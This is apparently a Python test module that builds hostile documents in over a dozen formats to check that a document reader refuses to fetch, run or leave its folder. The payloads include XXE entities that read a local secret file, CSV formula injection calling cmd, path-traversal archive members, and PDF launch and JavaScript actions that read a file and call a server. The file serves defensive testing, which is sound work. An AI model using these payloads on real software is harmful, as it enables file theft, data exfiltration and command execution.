"""Files that ask their reader to fetch something, open something, run something or leave its folder."""

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.documents.corpus import opened, raw, slides, tables, word
from tests.documents.corpus.packed import packed, unpacked

Make = Callable[[str, Path], bytes]
"""Of a server's address and a file on this machine."""
_RELATION = (
    '<Relationship Id="{id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="External"/>'
)


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """`make` gives the file its aims."""

    name: str
    make: Make


def every() -> tuple[Hostile, ...]:
    made: dict[str, Make] = {
        "dtd.xml": _xml, "include.xml": _include, "style.xml": _style,
        "page.html": _html, "page.xhtml": _xhtml, "picture.svg": _svg, "notes.md": _markdown,
        "letter.eml": _mail, "formula.csv": _csv, "reference.json": _json,
        "dtd.docx": _docx_dtd, "links.docx": _docx_links, "dtd.xlsx": _xlsx_dtd,
        "links.xlsx": _xlsx_links, "dtd.pptx": _pptx_dtd, "links.pptx": _pptx_links,
        "dtd.odt": _odt_dtd, "links.odt": _odt_links, "book.epub": _epub, "dtd.epub": _epub_dtd,
        "outside.docx": _outside, "outside.epub": _epub_outside,
        "actions.pdf": _pdf_actions, "streams.pdf": _pdf_streams, "form.pdf": _pdf_form,
    }  # fmt: skip
    return tuple(Hostile(name=name, make=make) for name, make in made.items())


def doctype(url: str, secret: Path, root: str = "x") -> str:
    return (
        f'<!DOCTYPE {root} SYSTEM "{url}/x.dtd" [<!ENTITY e SYSTEM "{secret.as_uri()}">'
        f'<!ENTITY n SYSTEM "{url}/e"><!ENTITY % p SYSTEM "{url}/p"> %p;]>'
    )


def _xml(url: str, secret: Path) -> bytes:
    return f'<?xml version="1.0"?>{doctype(url, secret)}<x>Words &e; &n;</x>'.encode()


def _include(url: str, secret: Path) -> bytes:
    return (
        '<x xmlns:xi="http://www.w3.org/2001/XInclude">Words'
        f'<xi:include href="{secret.as_uri()}" parse="text"/><xi:include href="{url}/x"/></x>'
    ).encode()


def _style(url: str, secret: Path) -> bytes:
    return f'<?xml version="1.0"?><?xml-stylesheet href="{url}/x.xsl"?><x>Words</x>'.encode()


def _markup(url: str, secret: Path) -> str:
    file = secret.as_uri()
    return (
        f'<p>Words</p><img src="{url}/i.png"><img src="{file}"><img src="{secret}">'
        f'<script src="{url}/s.js"></script><iframe src="{url}/f"></iframe><iframe src="{file}">'
        f'</iframe><object data="{file}"></object><embed src="{url}/e"><video poster="{url}/v">'
        f'</video><svg><image href="{url}/svg"/><use href="{url}/u#a"/></svg>'
        f'<div style="background:url({url}/b)">x</div><img srcset="{url}/a 1x">'
    )


def _styles(url: str, secret: Path) -> str:
    return (
        f"<style>@import url({url}/i.css);@font-face{{font-family:a;src:url({url}/f.ttf)}}"
        f"p{{font-family:a;background:url({secret.as_uri()})}}</style>"
    )


def _html(url: str, secret: Path) -> bytes:
    return (
        f'<!doctype html><html><head><base href="{url}/"><link rel="stylesheet" href="{url}/l.css">'
        f'<meta http-equiv="refresh" content="0;url={url}/r">{_styles(url, secret)}</head><body>'
        f"{_markup(url, secret)}</body></html>"
    ).encode()


def _xhtml(url: str, secret: Path) -> bytes:
    return (
        f'<?xml version="1.0"?>{doctype(url, secret, "html")}'
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Words &e; &n;</p></body></html>'
    ).encode()


def _svg(url: str, secret: Path) -> bytes:
    return (
        f'<?xml version="1.0"?>{doctype(url, secret, "svg")}<svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{url}/i"/>'
        f'<image xlink:href="{secret.as_uri()}"/><text>Words &e;</text></svg>'
    ).encode()


def _markdown(url: str, secret: Path) -> bytes:
    return (
        f"# Words\n\n![a]({url}/i.png) ![b]({secret.as_uri()}) ![c][d]\n\n[d]: {url}/d\n\n"
        f"{_markup(url, secret)}\n"
    ).encode()


def _mail(url: str, secret: Path) -> bytes:
    body = _markup(url, secret)
    return (
        "From: a@example.org\nSubject: Words\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="x"\n\n'
        f"--x\nContent-Type: text/html\nContent-Location: {url}/\n\n{body}\n"
        f'--x\nContent-Type: message/external-body; access-type=URL; URL="{url}/b"\n\n\n'
        f'--x\nContent-Type: message/external-body; access-type=local-file; name="{secret}"\n\n\n'
        f'--x\nContent-Type: text/plain; name="../../outside.txt"\n'
        f'Content-Disposition: attachment; filename="../../outside.txt"\n\nx\n--x--\n'
    ).encode()


def _csv(url: str, secret: Path) -> bytes:
    return f'a,b\nWords,"=WEBSERVICE(""{url}/w"")"\n=cmd|\'/c calc\'!A1,={secret}\n'.encode()


def _json(url: str, secret: Path) -> bytes:
    return f'{{"words": 1, "$ref": "{url}/r", "$schema": "{secret.as_uri()}"}}'.encode()


def with_doctype(data: bytes, member: str, url: str, secret: Path) -> bytes:
    """The same file, one member of which names entities outside of it and uses one."""
    members = unpacked(data)
    text = members[member].decode()
    head, mark, rest = text.partition("?>")
    if not mark or not text.startswith("<?xml"):
        head, mark, rest = "", "", text
    body = rest.replace(">Words<", ">Words &amp; &e; &n;<", 1)
    members[member] = f"{head}{mark}{doctype(url, secret)}{body}".encode()
    return packed(members)


def _words() -> bytes:
    return word.by_hand(word.paragraph("<w:r><w:t>Words</w:t></w:r>"))


def _docx_dtd(url: str, secret: Path) -> bytes:
    return with_doctype(_words(), "word/document.xml", url, secret)


def _docx_links(url: str, secret: Path) -> bytes:
    """A template, a picture and a piece that lie elsewhere, and a field that would load a file."""
    space = "http://schemas.openxmlformats.org/drawingml/2006/main"
    picture = f'<w:drawing><a:blip xmlns:a="{space}" r:link="pic" r:embed="pic"/></w:drawing>'
    body = word.paragraph(
        word.run("Words")
        + f"<w:r>{picture}</w:r>"
        + f'<w:fldSimple w:instr=" INCLUDETEXT &quot;{secret}&quot; "/>'
        + f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;{url}/p&quot; "/>'
    )
    relations = "".join(
        (
            _RELATION.format(id="pic", kind="image", target=f"{url}/i.png"),
            _RELATION.format(id="tpl", kind="attachedTemplate", target=f"{url}/t.dotm"),
            _RELATION.format(id="alt", kind="aFChunk", target=secret.as_uri()),
            _RELATION.format(id="fnt", kind="font", target=secret.as_uri()),
        )
    )
    return word.by_hand(body + '<w:altChunk r:id="alt"/>', relations=relations)


def _sheet() -> bytes:
    return tables.made(lambda book: book.active.append(["Words"]))


def _xlsx_dtd(url: str, secret: Path) -> bytes:
    members = unpacked(_sheet())
    name = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in members else "xl/workbook.xml"
    return with_doctype(_sheet(), name, url, secret)


def _xlsx_links(url: str, secret: Path) -> bytes:
    members: dict[str, str | bytes] = dict(unpacked(_sheet()))
    link = _RELATION.format(id="rId1", kind="externalLinkPath", target=secret.as_uri())
    image = _RELATION.format(id="rId2", kind="image", target=f"{url}/i.png")
    members["xl/externalLinks/externalLink1.xml"] = "<externalLink/>"
    members["xl/externalLinks/_rels/externalLink1.xml.rels"] = word.RELATIONS % link
    members["xl/worksheets/_rels/sheet1.xml.rels"] = word.RELATIONS % image
    members["xl/connections.xml"] = (
        f'<connections><connection><webPr url="{url}/w"/></connection></connections>'
    )
    return packed(members)


def _show() -> bytes:
    return slides.made(lambda show: slides.slide(show, "Words"))


def _pptx_dtd(url: str, secret: Path) -> bytes:
    return with_doctype(_show(), "ppt/slides/slide1.xml", url, secret)


def _pptx_links(url: str, secret: Path) -> bytes:
    members = unpacked(_show())
    name = "ppt/slides/_rels/slide1.xml.rels"
    more = "".join(
        (
            _RELATION.format(id="e1", kind="image", target=f"{url}/i.png"),
            _RELATION.format(id="e2", kind="oleObject", target=secret.as_uri()),
            _RELATION.format(id="e3", kind="video", target=f"{url}/v"),
        )
    )
    members[name] = members[name].replace(b"</Relationships>", more.encode() + b"</Relationships>")
    return packed(members)


def _odt_dtd(url: str, secret: Path) -> bytes:
    return opened.odt("<text:p>Words &e; &n;</text:p>", before=doctype(url, secret))


def _odt_links(url: str, secret: Path) -> bytes:
    hrefs = (f"{url}/i.png", secret.as_uri(), str(secret), "../" * 12 + str(secret).lstrip("/"))
    frames = "".join(
        f'<draw:frame><draw:image xlink:href="{href}"/></draw:frame>' for href in hrefs
    )
    source = f'<text:section><text:section-source xlink:href="{secret.as_uri()}"/></text:section>'
    return opened.odt(f"<text:p>Words{frames}</text:p>{source}")


def _epub(url: str, secret: Path) -> bytes:
    body = "<p>Words</p>" + "".join(
        f'<img src="{href}" alt="x"/>'
        for href in (
            f"{url}/i.png",
            secret.as_uri(),
            str(secret),
            "../" * 12 + str(secret).lstrip("/"),
        )
    )
    return opened.epub(
        {"a.xhtml": f'<link rel="stylesheet" href="{url}/l.css"/>{_styles(url, secret)}{body}'}
    )


def _epub_dtd(url: str, secret: Path) -> bytes:
    data = opened.epub({"a.xhtml": "<p>Words</p>"})
    return with_doctype(data, "a.xhtml", url, secret)


def _outside(url: str, secret: Path) -> bytes:
    """Members that would be written or read outside of a folder."""
    members: dict[str, str | bytes] = dict(unpacked(_words()))
    for name in ("../outside", "../../outside", "/tmp/outside", f"{secret}", "word/../../outside"):
        members[name] = b"overwritten"
    return packed(members)


def _epub_outside(url: str, secret: Path) -> bytes:
    members: dict[str, str | bytes] = dict(unpacked(opened.epub({"a.xhtml": "<p>Words</p>"})))
    book = bytes(unpacked(opened.epub({"a.xhtml": ""}))["book.opf"]).decode()
    away = "../" * 12 + str(secret).lstrip("/")
    members["book.opf"] = book.replace('href="a.xhtml"', f'href="{away}"')
    members["../outside"] = b"overwritten"
    return packed(members)


def _pdf_actions(url: str, secret: Path) -> bytes:
    """Everything a PDF may do when it is opened, shown or left."""
    site, file = url.encode(), raw.escaped(str(secret).encode())
    actions = (
        b"<</S/URI/URI(%s/u)>>" % site,
        b"<</S/Launch/F(%s)/Win<</F(cmd.exe)/P(/c calc)>>>>" % file,
        b"<</S/GoToR/F(%s)/D[0/Fit]>>" % file,
        b"<</S/SubmitForm/F<</FS/URL/F(%s/s)>>>>" % site,
        b"<</S/ImportData/F(%s)>>" % file,
        b"<</S/JavaScript/JS(this.getURL('%s/j'); util.readFileIntoStream('%s'))>>" % (site, file),
        b"<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F(%s/m)>>>>>>>>" % site,
    )
    objects = raw.pages(["Words"])
    chain = b""
    for action in actions:
        chain = action[:-2] + (b"/Next " + chain if chain else b"") + b">>"
    objects[1] = b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/AA<</WC %s>>>>" % (chain, chain)
    objects[10] = raw.page(11, b"/AA<</O %s/C %s>>" % (chain, chain))
    return raw.written(objects)


def _pdf_streams(url: str, secret: Path) -> bytes:
    """Content, a picture, a font and a form whose bytes lie in other files or on a server."""
    file, site = raw.escaped(str(secret).encode()), url.encode()
    objects = raw.pages(["Words"])
    objects[10] = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents[11 0 R 12 0 R]"
        b"/Resources<</Font<</F 3 0 R/G 22 0 R>>/XObject<</I 20 0 R/X 21 0 R>>>>>>"
    )
    objects[12] = raw.stream(b"/I Do /X Do BT /G 12 Tf 50 50 Td (x) Tj ET", b"/F(%s)" % file)
    image = b"/Type/XObject/Subtype/Image/Width 2/Height 2/BitsPerComponent 8/ColorSpace/DeviceGray"
    objects[20] = raw.stream(
        b"", image + b"/F(%s)/Alternates[<</Image 20 0 R/F<</FS/URL/F(%s/a)>>>>]" % (file, site)
    )
    objects[21] = raw.stream(
        b"",
        b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(%s)/Page 0>>/F<</FS/URL/F(%s/x)>>"
        % (file, site),
    )
    objects[22] = b"<</Type/Font/Subtype/TrueType/BaseFont/None/FontDescriptor 23 0 R>>"
    objects[23] = b"<</Type/FontDescriptor/FontName/None/Flags 4/FontFile2 24 0 R>>"
    objects[24] = raw.stream(b"", b"/F(%s)" % file)
    return raw.written(objects)


def _pdf_form(url: str, secret: Path) -> bytes:
    """A form of XFA, which is XML with all that XML can do."""
    objects = raw.pages(["Words"])
    objects[1] = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 30 0 R>>/Metadata 31 0 R>>"
    objects[30] = raw.stream(_xml(url, secret))
    objects[31] = raw.stream(_xml(url, secret), b"/Type/Metadata/Subtype/XML")
    return raw.written(objects)
